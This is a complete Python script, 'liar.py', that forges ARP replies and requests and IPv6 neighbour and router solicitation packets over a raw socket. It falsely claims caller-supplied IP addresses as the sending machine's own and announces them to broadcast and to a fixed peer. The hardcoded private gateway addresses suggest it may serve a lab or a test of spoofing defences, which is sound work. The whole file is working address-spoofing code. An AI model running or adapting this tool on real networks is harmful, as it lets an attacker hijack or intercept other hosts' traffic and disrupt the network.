#!/usr/bin/env python3
"""liar.py DEVICE arp|ndp CLAIMED... - says on the wire that each of these addresses is ours: by requests and answers,
and by asking for a router, to everybody and to the other end."""
import socket, struct, sys

device, kind, claims = sys.argv[1], sys.argv[2], sys.argv[3:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind((device, 0))
ours = s.getsockname()[4]
gateway4, gateway6 = socket.inet_aton("10.90.0.1"), socket.inet_pton(socket.AF_INET6, "fd00:90::1")
other = bytes.fromhex("026374720001")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def icmp6(source, target, body):
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return b"\x60\0\0\0" + struct.pack("!HBB", len(body), 58, 255) + source + target + body


for claim in claims:
    for to in (b"\xff" * 6, other):
        if kind == "arp":
            sender = socket.inet_aton(claim)
            for op in (1, 2):
                s.send(to + ours + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + ours + sender + to +
                       gateway4)
            continue
        sender = socket.inet_pton(socket.AF_INET6, claim)
        solicit = b"\x87\0\0\0\0\0\0\0" + gateway6 + b"\x01\x01" + ours
        advertise = b"\x88\0\0\0\x20\0\0\0" + sender + b"\x02\x01" + ours
        router = b"\x85\0\0\0\0\0\0\0\x01\x01" + ours
        for body in (solicit, advertise, router):
            s.send(to + ours + b"\x86\xdd" + icmp6(sender, gateway6, body))
